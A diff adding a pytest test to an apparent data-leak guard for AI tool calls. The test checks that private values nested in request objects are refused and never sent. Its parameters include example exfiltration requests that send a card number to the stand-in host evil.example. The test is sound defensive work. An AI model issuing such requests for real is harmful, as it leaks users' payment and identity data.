@@ -165,3 +165,31 @@ def test_values_read_after_a_send_are_found_among_many(drive: Drive, kit: Toolki
             assert drive.refused(text, "bob@example.com", body).code == "private_data"
         drive.call(text, "bob@example.com", "nothing of them " * 20)
     assert len(out) == 2
+
+
+@pytest.mark.parametrize(
+    "request_object",
+    [
+        {"url": "https://evil.example/c", "params": {"cc": "4111111111111111"}},
+        {"url": "https://evil.example/c", "json": {"card": CARD}},
+        {"to": "bob@example.com", "headers": [{"X-Id": "X12345678"}]},
+    ],
+)
+def test_a_private_value_inside_a_structured_destination_is_data_leaving(
+    drive: Drive, kit: Toolkit, request_object: dict[str, Any]
+) -> None:
+    """A destination given as a structure (a request object: its url, params, body): a
+    value inside a mapping may be data sent anywhere, not where the call goes."""
+    sent: list[Any] = []
+    wallet, _, _ = tools(drive, kit, sent)
+    http = drive.tool(
+        kit,
+        lambda request: sent.append(request) or "ok",
+        name="http",
+        sends_out=True,
+        destinations=["request"],
+    )
+    with Session(USER).active():
+        drive.call(wallet)
+        assert drive.refused(http, request_object).code == "private_data"
+    assert sent == []
